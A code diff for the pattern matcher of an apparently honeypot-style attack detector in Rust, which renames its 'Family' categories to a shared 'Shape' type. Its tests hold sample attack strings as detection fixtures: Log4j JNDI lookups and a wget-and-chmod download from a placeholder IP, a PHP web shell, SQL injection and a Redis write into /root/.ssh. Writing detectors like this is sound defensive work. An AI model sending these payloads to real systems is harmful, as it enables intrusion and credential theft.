@@ -3,96 +3,12 @@
 mod table;
 
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder};
-use alloc::{collections::BTreeMap, format, string::String};
+use alloc::{collections::BTreeMap, string::String};
+use honeymesh_types::Shape;
 use table::PATTERNS;
 
-/// What a known byte string is a sign of. Ordered as findings are listed: the gravest first.
-#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
-pub enum Family {
-    /// A look-up that makes a logger load code.
-    Jndi,
-    /// A shell that calls home.
-    ReverseShell,
-    /// A program is fetched from elsewhere.
-    Download,
-    /// What was fetched is fed to a shell.
-    ShellPipe,
-    /// Something encoded is decoded and run.
-    DecodePipe,
-    /// Shell characters where a value belongs.
-    ShellInjection,
-    /// An executable file.
-    Executable,
-    /// A row of no-operations, as in front of shellcode.
-    NopSled,
-    /// Code that a template, serializer or include would run.
-    CodeInjection,
-    /// A script that takes commands by web request.
-    Webshell,
-    /// SQL where a value belongs.
-    SqlInjection,
-    /// A store or server is told to write or run files.
-    ServiceAbuse,
-    /// A way out of the served directory.
-    Traversal,
-    /// A file that holds secrets.
-    SecretFile,
-    /// A foothold is prepared.
-    Foothold,
-    /// A path that only vulnerable products have.
-    ProductProbe,
-    /// A scanner or an attack tool names itself.
-    Tool,
-}
-
-impl Family {
-    /// What it adds to the score.
-    #[must_use]
-    pub const fn weight(self) -> u8 {
-        match self {
-            Self::Jndi | Self::ReverseShell => 60,
-            Self::Download | Self::Executable | Self::NopSled | Self::Webshell | Self::CodeInjection => 45,
-            Self::ShellPipe | Self::DecodePipe | Self::ShellInjection | Self::SqlInjection | Self::ServiceAbuse => 40,
-            Self::Traversal | Self::SecretFile => 35,
-            Self::Foothold => 30,
-            Self::ProductProbe => 20,
-            Self::Tool => 15,
-        }
-    }
-
-    /// Is it an attack by itself, and not only curiosity?
-    #[must_use]
-    pub const fn is_exploit(self) -> bool {
-        !matches!(self, Self::ProductProbe | Self::Tool)
-    }
-
-    /// What it is, in words.
-    #[must_use]
-    pub const fn words(self) -> &'static str {
-        match self {
-            Self::Jndi => "makes a logger load code",
-            Self::ReverseShell => "opens a shell that calls home",
-            Self::Download => "fetches a program",
-            Self::ShellPipe => "feeds a shell",
-            Self::DecodePipe => "decodes and runs",
-            Self::ShellInjection => "injects shell commands",
-            Self::Executable => "carries an executable file",
-            Self::NopSled => "carries a row of no-operations, as in front of shellcode",
-            Self::CodeInjection => "injects code",
-            Self::Webshell => "uses or plants a web shell",
-            Self::SqlInjection => "injects SQL",
-            Self::ServiceAbuse => "abuses a service's commands",
-            Self::Traversal => "leaves the served directory",
-            Self::SecretFile => "asks for a file with secrets",
-            Self::Foothold => "prepares a foothold",
-            Self::ProductProbe => "probes for a vulnerable product",
-            Self::Tool => "names a scanner or attack tool",
-        }
-    }
-}
-
-/// The families that were found, each with the first string that showed it.
-pub(crate) type Found = BTreeMap<Family, &'static [u8]>;
+/// The shapes that were found, each with the first string that showed it.
+pub(crate) type Found = BTreeMap<Shape, &'static [u8]>;
 
 /// All known byte strings as one automaton. Letters match in either case.
 pub struct Patterns {
@@ -108,7 +24,7 @@ impl Patterns {
         Self { automaton: AhoCorasickBuilder::new().ascii_case_insensitive(true).build(strings).ok() }
     }
 
-    /// Adds the families that `bytes` show to `found`. Takes time linear in `bytes`.
+    /// Adds the shapes that `bytes` show to `found`. Takes time linear in `bytes`.
     pub(crate) fn search(&self, bytes: &[u8], found: &mut Found) {
         let overlapping = self.automaton.as_ref().and_then(|automaton| automaton.try_find_overlapping_iter(bytes).ok());
         match overlapping {
@@ -124,18 +40,16 @@ impl Default for Patterns {
     }
 }
 
-/// One finding in words, with the string that showed it if it can be printed.
-pub(crate) fn describe(family: Family, string: &[u8]) -> String {
+/// The string of a known pattern if it can be printed, else nothing.
+pub(crate) fn printable(string: &[u8]) -> String {
     match core::str::from_utf8(string) {
-        Ok(text) if text.bytes().all(|byte| byte == b' ' || byte.is_ascii_graphic()) => {
-            format!("{}: {}", family.words(), text.trim())
-        }
-        _ => family.words().into(),
+        Ok(text) if text.bytes().all(|byte| byte == b' ' || byte.is_ascii_graphic()) => text.trim().into(),
+        _ => String::new(),
     }
 }
 
-fn note(found: &mut Found, (family, string): &(Family, &'static [u8])) {
-    found.entry(*family).or_insert(string);
+fn note(found: &mut Found, (shape, string): &(Shape, &'static [u8])) {
+    found.entry(*shape).or_insert(string);
 }
 
 fn contains(bytes: &[u8], string: &[u8]) -> bool {
@@ -150,7 +64,7 @@ mod tests {
     use alloc::vec::Vec;
     use proptest::prelude::*;
 
-    fn families(text: &[u8]) -> Vec<Family> {
+    fn shapes(text: &[u8]) -> Vec<Shape> {
         let mut found = Found::new();
         Patterns::new().search(text, &mut found);
         found.into_keys().collect()
@@ -163,12 +77,12 @@ mod tests {
 
     #[test]
     fn attacks_are_recognised_by_their_shape() {
-        use Family::{
-            CodeInjection, DecodePipe, Download, Executable, Foothold, Jndi, NopSled, ProductProbe, ReverseShell, SecretFile,
+        use Shape::{
+            DecodePipe, Deserialization, Download, Executable, Foothold, Jndi, NopSled, ProductProbe, ReverseShell, SecretFile,
             ServiceAbuse, ShellInjection, ShellPipe, SqlInjection, Tool, Traversal, Webshell,
         };
         let sled = [&b"\x41\x41"[..], &[0x90; 40], b"\xcc"].concat();
-        let cases: [(&[u8], &[Family]); 19] = [
+        let cases: [(&[u8], &[Shape]); 19] = [
             (b"GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://198.51.100.9/a}\r\n", &[Jndi]),
             (b"${${lower:j}ndi:ldap://x}", &[Jndi]),
             (b"cd /tmp; wget http://198.51.100.9/x.sh; chmod +x x.sh", &[Download, Foothold]),
@@ -184,13 +98,13 @@ mod tests {
             (&sled, &[NopSled]),
             (b"id=1' UNION SELECT 1,2 FROM information_schema.tables--", &[SqlInjection]),
             (b"<?php system($_GET['c']); ?>", &[Webshell]),
-            (b"\xac\xed\x00\x05sr", &[CodeInjection]),
+            (b"\xac\xed\x00\x05sr", &[Deserialization]),
             (b"CONFIG SET dir /root/.ssh/", &[ServiceAbuse, SecretFile]),
             (b"GET /boaform/admin/formLogin HTTP/1.1", &[ProductProbe]),
             (b"User-Agent: Mozilla/5.0 zgrab/0.x", &[Tool]),
         ];
         for (bytes, expected) in cases {
-            assert_eq!(families(bytes), expected, "{}", std::string::String::from_utf8_lossy(bytes));
+            assert_eq!(shapes(bytes), expected, "{}", std::string::String::from_utf8_lossy(bytes));
         }
     }
 
@@ -205,26 +119,26 @@ mod tests {
             b"EHLO mail.example.org\r\nMAIL FROM:<a@example.org>\r\n",
         ];
         for bytes in plain {
-            assert_eq!(families(bytes), [], "{}", std::string::String::from_utf8_lossy(bytes));
+            assert_eq!(shapes(bytes), [], "{}", std::string::String::from_utf8_lossy(bytes));
         }
     }
 
     #[test]
-    fn findings_name_the_string_unless_it_is_binary() {
-        assert_eq!(describe(Family::SecretFile, b"/etc/passwd"), "asks for a file with secrets: /etc/passwd");
-        assert_eq!(describe(Family::NopSled, &[0x90; 4]), Family::NopSled.words());
+    fn a_string_is_shown_unless_it_is_binary() {
+        assert_eq!(printable(b"curl http "), "curl http");
+        assert_eq!(printable(&[0x90; 4]), "");
     }
 
     #[test]
     fn no_string_is_empty_or_so_short_that_it_is_found_in_noise() {
-        for (family, string) in PATTERNS {
-            assert!(string.len() >= 3, "{family:?} {string:?}");
+        for (shape, string) in PATTERNS {
+            assert!(string.len() >= 3, "{shape:?} {string:?}");
         }
     }
 
     proptest! {
         #[test]
-        fn searching_one_by_one_finds_the_same_families(
+        fn searching_one_by_one_finds_the_same_shapes(
             parts in proptest::collection::vec(prop_oneof![
                 proptest::sample::select(PATTERNS).prop_map(|(_, string)| string.to_vec()),
                 proptest::collection::vec(any::<u8>(), 0..20),
